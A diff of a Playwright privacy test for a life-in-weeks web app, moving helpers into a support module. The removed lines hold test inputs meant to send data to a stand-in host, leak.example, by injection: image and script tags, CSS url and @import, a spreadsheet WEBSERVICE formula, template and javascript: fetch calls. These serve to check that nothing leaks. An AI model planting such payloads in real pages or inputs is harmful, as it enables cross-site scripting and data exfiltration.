@@ -1,26 +1,24 @@
-import { readFileSync } from 'node:fs';
-import type { BrowserContext, Download, Page } from '@playwright/test';
+import type { BrowserContext, Page } from '@playwright/test';
 import { update, kept as workerReady } from '../support/cached-page.ts';
 import { changingSite } from '../support/changing-site.ts';
 import { type Found, findMarks } from '../support/find-marks.ts';
-import { MarkedLife } from '../support/marked-life.ts';
+import {
+  addToWeeks,
+  changeLanguage,
+  fillIn,
+  firstCard,
+  life,
+  lookAround,
+  openBackup,
+  openGifts,
+  openView,
+  sayWhen,
+  takeAway,
+  typeLife,
+} from '../support/marked-visit.ts';
 import { recordNetwork } from '../support/network-record.ts';
 import { expect, test, Visitor } from '../support/test.ts';
-import { LanguageVisit, readWords } from '../support/visit-in-language.ts';
 import { FaultyWorldBank } from '../support/world-bank-faults.ts';
-
-/** The life that is entered. Each word is different, and some try to get out by themselves. */
-const life = new MarkedLife();
-const BIRTHDATE = life.date('1957-04-23');
-const YEARS = life.number('97.3125');
-const ACTIVITIES = [
-  life.word('Skiing'),
-  life.word('<img src="http://leak.example/?', '">'),
-  life.word('");background:url(http://leak.example/', ')'),
-  life.word('=WEBSERVICE("http://leak.example/', '")'),
-  life.word('{{7*7}}${fetch("//leak.example/', '")}'),
-];
-const HOURS = life.number('0.3127');
 
 /** Where the page keeps entries until the tab is closed: for a reload, and for the view. */
 const IN_THIS_TAB = ['tab: reload', 'tab: view'];
@@ -60,192 +58,6 @@ async function readStorage(page: Page, mayHold: readonly string[] = []): Promise
 /** The places in the browser that hold a mark. */
 const findKept = async (page: Page, mayHold: readonly string[] = []) =>
   findMarks(await readStorage(page, mayHold), life.marks);
-
-async function fillIn(page: Page, visitor: Visitor): Promise<void> {
-  await visitor.button(/^Country/).click();
-  await page.getByRole('combobox').fill(life.word('Land of'));
-  await expect(page.getByText(/No country matches/)).toBeVisible();
-  await page.keyboard.press('Escape');
-  await visitor.chooseCountry('Japan');
-  await visitor.field('Birthdate').fill(BIRTHDATE);
-  await visitor.field('Activity 1 hours per day').fill(life.number('31.2709'));
-  await visitor.addActivity(4, '', HOURS);
-  await visitor.addActivity(5, '', HOURS);
-  for (const [index, name] of ACTIVITIES.entries()) {
-    // oxlint-disable-next-line no-await-in-loop -- one after the other
-    await visitor.field(`Activity ${index + 1} name`).fill(name);
-  }
-  await visitor.submit();
-  await expect(visitor.problems()).toBeFocused();
-  await visitor.field('Activity 1 hours per day').fill('8');
-  await visitor.submit();
-  await visitor.allSections();
-  await visitor.enterLifeExpectancy(life.number('9731.25'));
-  await visitor.submit();
-  await expect(visitor.problems()).toBeFocused();
-  await visitor.field('Life expectancy (years)').fill(YEARS);
-  await visitor.submit();
-  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
-  await visitor.allSections();
-}
-
-/** Opens an editor under the weeks, fills in each of its entries, adds them, and leaves another one unfinished. */
-async function addEntries(page: Page, kind: string, entries: readonly Readonly<Record<string, string>>[]) {
-  const form = page.getByRole('form', { name: `Add a ${kind.toLowerCase()}` });
-  await page.getByRole('button', { name: kind, exact: true }).click();
-  for (const entry of entries) {
-    for (const [label, text] of Object.entries(entry)) {
-      // oxlint-disable-next-line no-await-in-loop
-      await form.getByLabel(label, { exact: true }).fill(text);
-    }
-    // oxlint-disable-next-line no-await-in-loop
-    await form.getByRole('button', { name: 'Add', exact: true }).click();
-  }
-  const [first = ''] = Object.keys(entries[0] ?? {});
-  await form.getByLabel(first, { exact: true }).fill(life.word(`unfinished ${kind}`));
-  await page.keyboard.press('Escape');
-  await expect(form).toHaveCount(0);
-}
-
-async function addToWeeks(page: Page): Promise<void> {
-  await addEntries(page, 'Chapter', [
-    { Name: life.word('School of'), From: life.date('1964-09-27'), Until: '1976' },
-    { Name: life.word('</script><script src=//leak.example/'), From: life.word('never, until'), Until: '' },
-    { Name: life.word('Town of'), From: life.date('1988-11-13'), Until: life.date('1999-10-29') },
-  ]);
-  await addEntries(page, 'Moment', [
-    { 'A few words': life.word('Wedding of'), When: life.date('1983-08-24') },
-    { 'A few words': life.word('javascript:fetch("//leak.example/', '")'), When: '2001' },
-    { 'A few words': life.word('Lost'), When: life.word('some day of') },
-  ]);
-  await addEntries(page, 'Person', [
-    { Name: life.word('Mother'), 'Year of birth': '1936', 'Days together a year': '13' },
-    { Name: life.word('@import url(//leak.example/', ')'), 'Year of birth': life.word('long ago') },
-  ]);
-}
-
-async function typeLife(page: Page, visitor: Visitor): Promise<void> {
-  await visitor.button('Type or paste').click();
-  const dialog = page.getByRole('dialog', { name: 'Type or paste' });
-  const box = dialog.getByLabel('One entry per line, or separated by commas');
-  await box.fill(
-    `2012 ${life.word('first job at')}\nMum ${life.word('Granny')} 1936\n${life.word('no year')}`,
-  );
-  const event = `BEGIN:VEVENT\r\nDTSTART;VALUE=DATE:${life.date('2003-07-21').replaceAll('-', '')}\r\nSUMMARY:${life.word('Choir of')}\r\nEND:VEVENT`;
-  await dialog.locator('input[type=file]').setInputFiles({
-    name: `${life.word('calendar')}.ics`,
-    mimeType: 'text/calendar',
-    buffer: Buffer.from(`BEGIN:VCALENDAR\r\n${event}\r\nEND:VCALENDAR`),
-  });
-  await expect(box).toHaveValue(/Choir of/);
-  await dialog.getByRole('button', { name: /^Add/ }).click();
-  await expect(box).toHaveValue(/no year/);
-  await page.keyboard.press('Escape');
-}
-
-async function sayWhen(visitor: Visitor): Promise<void> {
-  const card = visitor.card(ACTIVITIES[2] ?? '');
-  await card.getByRole('button', { name: /^Set days and ages/ }).click();
-  await card.getByLabel(/from age or year$/).fill(life.word('since'));
-  const until = card.getByLabel(/until age or year$/);
-  await until.fill(life.word('until'));
-  await until.press('Enter');
-  await until.press('Escape');
-}
-
-/** Opens a file as a backup. @param name its name */
-async function openBackup(visitor: Visitor, name: string, text: string): Promise<void> {
-  await visitor.button('Backup').click();
-  const chooser = visitor.page.waitForEvent('filechooser');
-  await visitor.button('Open a backup file').click();
-  await (await chooser).setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
-}
-
-/** What others send: a link, a damaged link, and a file that is no backup. */
-async function openGifts(page: Page, link: string): Promise<void> {
-  const visitor = new Visitor(page);
-  await page.goto(link);
-  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
-  await visitor.slider().fill('1040');
-  await page.goto('about:blank');
-  await page.goto(`./#${life.word('life').replaceAll(' ', '&n=')}`);
-  await visitor.listening();
-  await openBackup(visitor, `${life.word('notes')}.txt`, life.word('{"not": "'));
-  await expect(visitor.page.getByText('It’s not a backup file from this page.')).toBeVisible();
-}
-
-async function saved(page: Page, press: () => Promise<unknown>): Promise<Download> {
-  const waiting = page.waitForEvent('download');
-  await press();
-  const download = await waiting;
-  await download.path();
-  return download;
-}
-
-/** @returns the link to the results */
-async function takeAway(page: Page, visitor: Visitor): Promise<{ link: string; backup: string }> {
-  for (const name of ['Share Results', 'Save as SVG', 'Save this page']) {
-    // oxlint-disable-next-line no-await-in-loop
-    await saved(page, () => visitor.button(name).click());
-  }
-  await visitor.button('Choose a picture').click();
-  await visitor.field('Title (optional)').fill(life.word('Picture of'));
-  await visitor.field('Show the date of birth').check();
-  await saved(page, () =>
-    visitor
-      .button(/^Download (PNG|SVG)/)
-      .first()
-      .click(),
-  );
-  await page.keyboard.press('Escape');
-  await visitor.button('Choose calendar events').click();
-  await saved(page, () => visitor.button('Save the calendar file (.ics)').click());
-  await page.keyboard.press('Escape');
-  await visitor.button('Backup').click();
-  const backup = await saved(page, () => visitor.button('Save a backup file').click());
-  await page.keyboard.press('Escape');
-  await visitor.button('Copy link').click();
-  await expect(page.locator('.copy-link').getByText('Link copied.')).toBeVisible();
-  const link = await page.evaluate(() => navigator.clipboard.readText());
-  return { link, backup: readFileSync(await backup.path(), 'utf8') };
-}
-
-async function lookAround(page: Page, visitor: Visitor): Promise<void> {
-  await visitor.slider().fill('520');
-  await visitor.openEverything();
-  await page.emulateMedia({ media: 'print' });
-  await page.emulateMedia({ media: 'screen' });
-  await visitor.button('Switch to light theme').click();
-  await visitor.button('See an example').click();
-  await visitor.button('Restore my entries').click();
-  await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
-  await visitor.button('Remove activity 5').click();
-  await visitor.undoLine().click();
-  await visitor.button('Start from an average day').click();
-  await visitor.button('Use “Student”').click();
-  await visitor.undoLine().click();
-  await expect(visitor.field('Activity 4 name')).toHaveValue(ACTIVITIES[3] ?? '');
-}
-
-async function openView(page: Page): Promise<void> {
-  await page.getByRole('link', { name: 'Open the view' }).click();
-  await expect(page.locator('.view-line')).toContainText('weeks lived');
-  await page.keyboard.press('Escape');
-  await new Visitor(page).listening();
-}
-
-/** To German and back. */
-async function changeLanguage(page: Page, visitor: Visitor): Promise<void> {
-  const choose = async (tag: string) => {
-    await page.locator('.language-button').click();
-    await page.locator(`.language-menu a[lang="${tag}"]`).click();
-  };
-  await choose('de');
-  await new LanguageVisit(page, await readWords('de/')).listening();
-  await expect(page.locator('#results')).toBeVisible();
-  await choose('en');
-  await visitor.listening();
-}
 
 /** Everything that pages of a browser write into the console. */
 function recordConsole(context: BrowserContext): Found[] {
@@ -287,21 +99,21 @@ test('of a whole visit with 40 marked words, dates and numbers, none gets out', 
     const said = recordConsole(context);
     const visitor = new Visitor(page);
     await visitor.open();
-    await fillIn(page, visitor);
-    await addToWeeks(page);
-    await typeLife(page, visitor);
+    await fillIn(visitor);
+    await addToWeeks(visitor);
+    await typeLife(visitor);
     await sayWhen(visitor);
-    const { link, backup } = await takeAway(page, visitor);
+    const { link, backup } = await takeAway(visitor);
     // The search would find what was entered.
     expect(findMarks([{ where: 'backup', text: backup }], life.marks)).toHaveLength(1);
-    await lookAround(page, visitor);
+    await lookAround(visitor);
     expect(await findKept(page)).toEqual([]);
 
-    await changeLanguage(page, visitor);
+    await changeLanguage(visitor);
     expect(await findKept(page)).toEqual([]);
-    await openView(page);
+    await openView(visitor);
     await openBackup(visitor, `${life.word('backup')}.json`, backup);
-    await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
+    await expect(firstCard(visitor)).toBeVisible();
     expect(await findKept(page, IN_THIS_TAB)).toEqual([]);
 
     // With consent, the form is saved, and nothing else.
@@ -311,7 +123,7 @@ test('of a whole visit with 40 marked words, dates and numbers, none gets out', 
     await context.setOffline(true);
     await page.reload();
     await visitor.listening();
-    await expect(visitor.card(ACTIVITIES[0] ?? '')).toBeVisible();
+    await expect(firstCard(visitor)).toBeVisible();
     await context.setOffline(false);
     await site.publish('second');
     await site.stop();
@@ -326,7 +138,7 @@ test('of a whole visit with 40 marked words, dates and numbers, none gets out', 
     expect(await findKept(page, IN_THIS_TAB)).toEqual([]);
 
     const other = await context.newPage();
-    await openGifts(other, link);
+    await openGifts(new Visitor(other), link);
     expect(await findKept(other)).toEqual([]);
 
     expect(life.count).toBeGreaterThanOrEqual(40);
